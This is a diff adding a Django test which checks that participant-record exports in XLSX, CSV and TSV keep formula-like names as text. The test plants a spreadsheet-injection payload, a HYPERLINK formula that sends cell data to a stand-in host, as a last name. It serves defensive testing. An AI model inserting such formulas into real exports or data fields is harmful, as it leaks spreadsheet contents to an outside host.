@@ -92,3 +92,47 @@ def test_every_model_is_in_the_admin() -> None:
         m._meta.label for m in apps.get_models() if m._meta.app_label in ours and not admin.site.is_registered(m)
     ]
     assert not missing
+
+
+def _export(client: Client, fmt: str) -> bytes:
+    from records.export_formats import EXPORT_FORMATS
+
+    index = next(i for i, f in enumerate(EXPORT_FORMATS) if f().get_title() == fmt)
+    response = client.post(
+        reverse("admin:records_participant_export"),
+        {
+            "format": str(index),
+            "resource": "0",
+            **{f"participantresource_{name}": "on" for name in ("iin", "last_name", "first_name", "patronymic")},
+        },
+    )
+    assert response.status_code == 200, response.content[:500]
+    return response.content
+
+
+def test_exports_never_turn_payers_text_into_spreadsheet_formulas(make_user, participant) -> None:
+    """A name that reads as a formula stays text: exact in XLSX (a text cell), quoted with an
+    apostrophe in CSV and TSV; plain negative numbers are left alone."""
+    import io
+
+    from openpyxl import load_workbook
+
+    Participant.objects.filter(pk=participant.pk).update(
+        last_name='=HYPERLINK("http://x.example/?"&A1,"Жми")', first_name="@SUM(1+1)", patronymic="-150.00"
+    )
+    client = signed_in(make_user("auditor"))
+
+    sheet = load_workbook(io.BytesIO(_export(client, "xlsx"))).active
+    rows = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+    assert rows['=HYPERLINK("http://x.example/?"&A1,"Жми")'] == "s"
+    assert rows["@SUM(1+1)"] == "s"
+    assert all(kind != "f" for kind in rows.values())
+
+    body = _export(client, "csv").decode("utf-8")
+    assert "'=HYPERLINK(" in body
+    assert "'@SUM(1+1)" in body
+    assert "-150.00" in body
+    assert "'-150.00" not in body
+
+    tsv = _export(client, "tsv").decode("utf-8")
+    assert "'@SUM(1+1)" in tsv
